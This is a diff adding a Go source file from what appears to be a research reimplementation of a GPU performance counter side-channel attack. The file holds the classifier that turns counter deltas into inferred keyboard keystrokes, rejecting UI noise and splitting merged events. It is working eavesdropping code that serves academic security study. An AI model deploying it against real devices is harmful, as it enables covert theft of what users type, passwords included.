@@ -1,0 +1,330 @@
+// Package attack implements the paper's primary contribution: the GPU
+// performance counter eavesdropping attack. It contains the counter
+// sampler (§4), the offline-phase collector and classifier construction
+// (§3.2), the online inference engine with duplication/split/noise
+// handling (Algorithm 1, §5.1), app-switch detection (§5.2), input
+// correction tracking (§5.3), and device/configuration recognition (§3.2).
+package attack
+
+import (
+	"encoding/json"
+	"fmt"
+	"io"
+	"math"
+	"sort"
+	"sync"
+
+	"gpuleak/internal/trace"
+)
+
+// ModelKey identifies the device configuration a classifier was trained
+// for: one classification model is built per (device, resolution,
+// keyboard) combination and preloaded into the attacking app (§3.2).
+type ModelKey struct {
+	Device     string `json:"device"`
+	Resolution string `json:"resolution"`
+	Keyboard   string `json:"keyboard"`
+	RefreshHz  int    `json:"refresh_hz"`
+}
+
+func (k ModelKey) String() string {
+	return fmt.Sprintf("%s/%s/%s@%d", k.Device, k.Resolution, k.Keyboard, k.RefreshHz)
+}
+
+// NoiseClass labels the non-keypress delta families the offline phase
+// learns so the online classifier can reject them (§5.1: the models are
+// used "to distinguish between GPU hardware events caused by key presses
+// and other system factors").
+type NoiseClass string
+
+// Noise families observed during offline collection.
+const (
+	NoisePopupHide  NoiseClass = "popup-hide"
+	NoiseEcho       NoiseClass = "echo"
+	NoiseBlink      NoiseClass = "cursor-blink"
+	NoisePageSwitch NoiseClass = "page-switch"
+	NoiseNotif      NoiseClass = "notification"
+	NoiseLaunch     NoiseClass = "app-launch"
+)
+
+// NoiseCentroid is one learned non-key delta signature.
+type NoiseCentroid struct {
+	Class NoiseClass `json:"class"`
+	V     trace.Vec  `json:"v"`
+}
+
+// Model is the per-configuration classifier: nearest-centroid over the
+// 11-dimensional delta space with a rejection threshold Cth, plus learned
+// noise signatures and the launch fingerprint used for device recognition.
+type Model struct {
+	Key ModelKey `json:"key"`
+	// Keys maps each typable rune to its popup delta centroid.
+	Keys map[string]trace.Vec `json:"keys"`
+	// Noise holds non-key delta centroids (popup-hide, echo, blink, ...).
+	Noise []NoiseCentroid `json:"noise"`
+	// Weights normalize each counter dimension before distance
+	// computation (1/scale per dimension).
+	Weights trace.Vec `json:"weights"`
+	// Cth is the classification threshold of §5.1: deltas farther than Cth
+	// from every key centroid are not key presses.
+	Cth float64 `json:"cth"`
+	// NoiseTol is the acceptance bound for noise centroids. Non-key UI
+	// events are deterministic redraws, so observed noise deltas match
+	// their learned signatures near-exactly; a tight bound prevents split
+	// fragments from being swallowed as noise.
+	NoiseTol float64 `json:"noise_tol"`
+	// Launch is the app-launch frame fingerprint for device recognition.
+	Launch trace.Vec `json:"launch"`
+
+	// noiseByDim0 indexes noise centroids by their first weighted
+	// dimension for the denoising fast path (rebuilt lazily after
+	// deserialization); indexOnce makes the lazy build safe under
+	// concurrent classification.
+	indexOnce   sync.Once
+	noiseByDim0 []noiseEntry
+}
+
+type noiseEntry struct {
+	key0 float64
+	v    trace.Vec
+}
+
+// Verdict is the outcome of classifying one delta.
+type Verdict struct {
+	IsKey bool
+	R     rune
+	Dist  float64
+	// Alt is the runner-up key and AltDist its distance; the gap to Dist
+	// is the classification margin the §7.1 guessing strategy exploits.
+	Alt     rune
+	AltDist float64
+	// Noise is set when the delta matched a learned noise family.
+	Noise   NoiseClass
+	IsNoise bool
+}
+
+// Classify decides whether v is a key press, a known noise event, or
+// unknown. The model's weights are 1/sigma per counter dimension, so
+// weighted Euclidean distance is measured in observation-noise standard
+// deviations; the thresholds Cth and NoiseTol are in those units. A key
+// press requires the nearest key centroid to be (a) within Cth, (b)
+// markedly closer than the second-nearest key (a ratio test —
+// perturbations from coinciding system events must not flip the
+// decision), and (c) at least as close as any noise centroid. A delta is
+// noise when a noise centroid matches within NoiseTol. Everything else
+// is unknown (typically a fragment of a split change).
+func (m *Model) Classify(v trace.Vec) Verdict {
+	bestKey, altKey, d1, d2 := rune(0), rune(0), math.Inf(1), math.Inf(1)
+	for s, c := range m.Keys {
+		d := v.Dist(c, m.Weights)
+		if d < d1 {
+			d2 = d1
+			altKey = bestKey
+			d1 = d
+			bestKey = firstRune(s)
+		} else if d < d2 {
+			d2 = d
+			altKey = firstRune(s)
+		}
+	}
+	bestNoise, bestNoiseDist := NoiseClass(""), math.Inf(1)
+	for _, n := range m.Noise {
+		d := v.Dist(n.V, m.Weights)
+		if d < bestNoiseDist {
+			bestNoiseDist = d
+			bestNoise = n.Class
+		}
+	}
+	if d1 <= m.Cth && d1 <= 0.65*d2 && d1 <= bestNoiseDist {
+		return Verdict{IsKey: true, R: bestKey, Dist: d1, Alt: altKey, AltDist: d2}
+	}
+	if bestNoiseDist <= m.noiseTol() && bestNoiseDist <= d1 {
+		return Verdict{IsNoise: true, Noise: bestNoise, Dist: bestNoiseDist}
+	}
+	return Verdict{Dist: math.Min(d1, bestNoiseDist)}
+}
+
+// ClassifyDenoised extends Classify for deltas in which a key press
+// merged with a system event inside one sampling window: it retries the
+// classification after subtracting each learned noise signature and
+// accepts the best resulting key verdict. Only key verdicts are promoted
+// this way — declaring compound noise from a subtraction would swallow
+// split key fragments. A component of a merged delta cannot be larger
+// than the delta itself, so noise centroids above the observation's
+// magnitude are skipped, keeping the fallback within the paper's §7.6
+// sub-0.1 ms inference budget.
+func (m *Model) ClassifyDenoised(v trace.Vec) Verdict {
+	out := m.Classify(v)
+	if out.IsKey || out.IsNoise {
+		return out
+	}
+	m.buildNoiseIndex()
+	bestKey, d1, d2 := rune(0), math.Inf(1), math.Inf(1)
+	for s, c := range m.Keys {
+		d := m.nearestNoiseTo(v.Sub(c))
+		if d < d1 {
+			d2 = d1
+			d1 = d
+			bestKey = firstRune(s)
+		} else if d < d2 {
+			d2 = d
+		}
+	}
+	if d1 <= m.Cth && d1 <= 0.65*d2 {
+		return Verdict{IsKey: true, R: bestKey, Dist: d1}
+	}
+	return out
+}
+
+// buildNoiseIndex sorts noise centroids by their first weighted dimension
+// so residual lookups can window instead of scanning. Safe for concurrent
+// callers.
+func (m *Model) buildNoiseIndex() {
+	m.indexOnce.Do(func() {
+		w0 := m.Weights[0]
+		if w0 == 0 {
+			w0 = 1
+		}
+		idx := make([]noiseEntry, 0, len(m.Noise))
+		for _, n := range m.Noise {
+			idx = append(idx, noiseEntry{key0: n.V[0] * w0, v: n.V})
+		}
+		sort.Slice(idx, func(i, j int) bool { return idx[i].key0 < idx[j].key0 })
+		m.noiseByDim0 = idx
+	})
+}
+
+// nearestNoiseTo returns the distance from r to the nearest noise
+// centroid, bounded by Cth: entries whose first weighted dimension is
+// already farther than the current bound cannot beat it (per-dimension
+// distance lower-bounds the Euclidean distance).
+func (m *Model) nearestNoiseTo(r trace.Vec) float64 {
+	w0 := m.Weights[0]
+	if w0 == 0 {
+		w0 = 1
+	}
+	target := r[0] * w0
+	idx := sort.Search(len(m.noiseByDim0), func(i int) bool {
+		return m.noiseByDim0[i].key0 >= target
+	})
+	best := m.Cth + 1
+	// Expand outward from the insertion point until dim-0 alone exceeds
+	// the best bound.
+	lo, hi := idx-1, idx
+	for {
+		advanced := false
+		if hi < len(m.noiseByDim0) && m.noiseByDim0[hi].key0-target <= best {
+			if d := r.Dist(m.noiseByDim0[hi].v, m.Weights); d < best {
+				best = d
+			}
+			hi++
+			advanced = true
+		}
+		if lo >= 0 && target-m.noiseByDim0[lo].key0 <= best {
+			if d := r.Dist(m.noiseByDim0[lo].v, m.Weights); d < best {
+				best = d
+			}
+			lo--
+			advanced = true
+		}
+		if !advanced {
+			break
+		}
+	}
+	return best
+}
+
+// Clone returns an independent copy of the model (exported state only;
+// lazy caches rebuild on demand). Use it to derive ablation variants with
+// modified thresholds or weights.
+func (m *Model) Clone() *Model {
+	out := &Model{
+		Key:      m.Key,
+		Keys:     make(map[string]trace.Vec, len(m.Keys)),
+		Noise:    append([]NoiseCentroid(nil), m.Noise...),
+		Weights:  m.Weights,
+		Cth:      m.Cth,
+		NoiseTol: m.NoiseTol,
+		Launch:   m.Launch,
+	}
+	for k, v := range m.Keys {
+		out.Keys[k] = v
+	}
+	return out
+}
+
+// noiseTol returns the noise acceptance bound, with a fallback for models
+// serialized before the field existed.
+func (m *Model) noiseTol() float64 {
+	if m.NoiseTol > 0 {
+		return m.NoiseTol
+	}
+	return m.Cth / 3
+}
+
+// KeyNormMax returns the largest weighted norm among key centroids — the
+// magnitude, in noise-sigma units, of the biggest per-key delta this
+// configuration produces. Useful for sizing obfuscation amplitudes.
+func (m *Model) KeyNormMax() float64 {
+	max := 0.0
+	for _, c := range m.Keys {
+		if n := c.Norm(m.Weights); n > max {
+			max = n
+		}
+	}
+	return max
+}
+
+// MinInterKeyDistance returns the smallest pairwise weighted distance
+// between key centroids — the resolution limit of the side channel on
+// this configuration.
+func (m *Model) MinInterKeyDistance() float64 {
+	var cs []trace.Vec
+	for _, c := range m.Keys {
+		cs = append(cs, c)
+	}
+	min := math.Inf(1)
+	for i := 0; i < len(cs); i++ {
+		for j := i + 1; j < len(cs); j++ {
+			if d := cs[i].Dist(cs[j], m.Weights); d < min {
+				min = d
+			}
+		}
+	}
+	return min
+}
+
+// Runes lists the typable runes the model knows, sorted.
+func (m *Model) Runes() []rune {
+	out := make([]rune, 0, len(m.Keys))
+	for s := range m.Keys {
+		out = append(out, firstRune(s))
+	}
+	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
+	return out
+}
+
+func firstRune(s string) rune {
+	for _, r := range s {
+		return r
+	}
+	return 0
+}
+
+// WriteJSON serializes the model (§7.6 reports ~3.59 kB per model).
+func (m *Model) WriteJSON(w io.Writer) error {
+	enc := json.NewEncoder(w)
+	return enc.Encode(m)
+}
+
+// ReadModel deserializes a model written by WriteJSON.
+func ReadModel(r io.Reader) (*Model, error) {
+	var m Model
+	if err := json.NewDecoder(r).Decode(&m); err != nil {
+		return nil, fmt.Errorf("attack: decoding model: %w", err)
+	}
+	if len(m.Keys) == 0 {
+		return nil, fmt.Errorf("attack: model has no key centroids")
+	}
+	return &m, nil
+}
